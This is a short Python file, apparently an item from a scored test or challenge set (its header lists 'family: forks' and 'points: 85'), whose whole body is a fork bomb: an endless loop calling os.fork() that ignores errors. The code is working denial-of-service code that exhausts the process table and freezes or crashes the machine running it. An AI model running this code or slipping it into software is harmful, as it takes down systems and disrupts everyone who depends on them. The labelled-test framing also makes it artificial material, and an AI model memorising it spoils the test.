# family: forks
# base: solved
# at: predict
# points: 85

import os
while True:
    try:
        os.fork()
    except OSError:
        pass
